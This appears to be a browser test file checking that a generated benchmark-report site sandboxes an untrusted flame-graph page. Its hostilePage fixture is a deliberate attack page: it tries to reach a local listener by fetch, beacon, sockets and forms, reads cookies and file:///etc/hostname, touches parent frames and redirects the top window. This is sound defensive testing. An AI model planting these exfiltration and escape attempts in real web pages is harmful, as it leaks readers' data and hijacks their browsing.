import { once } from "node:events";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { copyRun } from "../made-up-runs.ts";
import { addProfile } from "../profiled.ts";
import { rehearseHere } from "../rehearse-here.ts";
import { temporaryFolder } from "../temporary-folder.ts";
import { openPage } from "./browser.ts";
import { builtSite } from "./built-site.ts";

const parent = temporaryFolder();
const runs = join(parent, "runs");
let sent = "";
const listener = createServer((socket) => {
  socket.on("data", (chunk) => {
    sent += chunk;
  });
  socket.on("error", () => undefined);
}).listen(0, "127.0.0.1");
afterAll(() => void listener.close());
await once(listener, "listening");
const { port } = listener.address() as AddressInfo;
const whole = await rehearseHere(parent, "whole", ["--variant", "fastify/cls", "--rounds", "3"]);
addProfile(copyRun(whole, runs, "foreign", 1), "fastify/cls", { "flame.html": hostilePage(`127.0.0.1:${port}`) });
const site = builtSite([runs]);

describe("a page from a stranger's run, in a browser", () => {
  const cell = "runs/foreign/cells/fastify.cls";

  test.each([
    ["on the cell's page, served", () => site.url(`${cell}/`)],
    ["alone, served", () => site.url("runs/foreign/flame.html#fastify.cls")],
    ["on the cell's page, as a file", () => site.fileUrl(cell)],
    ["alone, as a file", () => site.fileUrl("runs/foreign").replace("index.html", "flame.html#fastify.cls")],
  ])("reaches neither the network nor what is around it: %s", async (place, addressOf) => {
    const { page } = await openPage();
    sent = "";
    const address = addressOf();
    await page.goto(address);
    if (!place.startsWith("alone")) await page.locator(".clinic summary").first().click();
    const outer = page.locator("iframe").first();
    await outer.scrollIntoViewIfNeeded();
    const frame = place.startsWith("alone")
      ? outer.contentFrame()
      : outer.contentFrame().locator("iframe").contentFrame();
    await frame.locator("body[data-done]").waitFor();
    expect(await frame.locator("body").getAttribute("data-reached")).toBe("nothing");

    // It goes to another address, is refused, and the browser's own page about that stands in its place.
    const refused = page.waitForEvent("framenavigated", (moved) => moved.url().startsWith("chrome-error:"));
    await frame.locator("#leave").evaluate((button: HTMLElement) => button.click());
    await refused;
    expect({ sent, address: page.url(), pages: page.context().pages().length }).toEqual({
      sent: "",
      address,
      pages: 1,
    });
  });
});

/** Tries all that a page may try to say that it was opened, to learn where, or to lead its reader away. */
function hostilePage(there: string): string {
  return `<!doctype html><html><head>
<link rel="dns-prefetch" href="http://${there}"><link rel="preconnect" href="http://${there}">
<link rel="prefetch" href="http://${there}/prefetch"><link rel="stylesheet" href="http://${there}/style">
<script src="http://${there}/script"></script></head><body>
<img src="http://${there}/image"><iframe src="http://${there}/frame"></iframe><object data="http://${there}/object"></object>
<form id="form" action="http://${there}/form"></form><a id="link" href="http://${there}/link" target="_top">link</a>
<button id="leave">leave</button>
<script>
  const attempts = {
    fetch: () => fetch("http://${there}/fetch", { mode: "no-cors" }),
    ownOrigin: () => fetch("/", { mode: "no-cors" }),
    file: () => fetch("file:///etc/hostname"),
    socket: () => new Promise((yes, no) => Object.assign(new WebSocket("ws://${there}/"), { onopen: yes, onerror: no })),
    events: () => new Promise((yes, no) => Object.assign(new EventSource("http://${there}/"), { onopen: yes, onerror: no })),
    module: () => import("http://${there}/module"),
    parent: () => parent.document.title,
    top: () => top.document.title,
    storage: () => localStorage.setItem("a", "b"),
    cookie: () => document.cookie,
    window: () => open("http://${there}/window") ?? Promise.reject(),
    topAddress: () => { top.location.href = "http://${there}/top"; },
    worker: () => new Promise((yes, no) => Object.assign(new Worker("data:text/javascript,postMessage(1)"), { onmessage: yes, onerror: no })),
  };
  const reach = async ([name, attempt]) => { try { await attempt(); return [name]; } catch { return []; } };
  Promise.all(Object.entries(attempts).map(reach)).then((reached) => {
    document.body.dataset.reached = reached.flat().join() || "nothing";
    document.body.dataset.done = "yes";
  });
  navigator.sendBeacon("http://${there}/beacon");
  document.getElementById("leave").onclick = () => {
    document.getElementById("form").submit();
    document.getElementById("link").click();
    location.href = "http://${there}/own";
  };
</script></body></html>`;
}
